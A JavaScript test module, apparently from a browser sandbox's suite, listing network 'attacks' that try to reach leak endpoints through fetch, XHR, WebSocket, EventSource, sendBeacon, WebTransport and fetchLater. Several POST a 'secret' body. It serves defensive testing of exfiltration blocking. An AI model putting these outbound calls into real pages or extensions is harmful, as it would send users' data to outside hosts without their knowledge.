// The network interfaces of scripts.

import { leakAddress, leakSocket, leakTls, leakUrl } from "../leak.js";

/** @type {Record<string, () => unknown>} */
export const networkAttacks = {
  fetch: () => fetch(leakUrl("fetch")),
  "fetch-by-address": () => fetch(leakAddress("fetch-by-address")),
  "fetch-no-cors": () => fetch(leakUrl("fetch-no-cors"), { method: "POST", mode: "no-cors", body: "secret" }),
  "fetch-keepalive": () =>
    fetch(leakUrl("fetch-keepalive"), { method: "POST", mode: "no-cors", keepalive: true, body: "secret" }),
  "fetch-later": () => globalThis.fetchLater(leakTls("fetch-later"), { activateAfter: 0 }),
  xhr: () => {
    const request = new XMLHttpRequest();
    request.open("POST", leakUrl("xhr"));
    request.send("secret");
  },
  websocket: () => new WebSocket(leakSocket("websocket")),
  "websocket-stream": () => new globalThis.WebSocketStream(leakSocket("websocket-stream")).opened,
  eventsource: () => new EventSource(leakUrl("eventsource")),
  beacon: () => {
    if (!navigator.sendBeacon(leakUrl("beacon"), "secret")) throw new Error("refused");
  },
  webtransport: () => new WebTransport(leakTls("webtransport")).ready,
  "fetch-tls": () => fetch(leakTls("fetch-tls"), { mode: "no-cors" }),
};
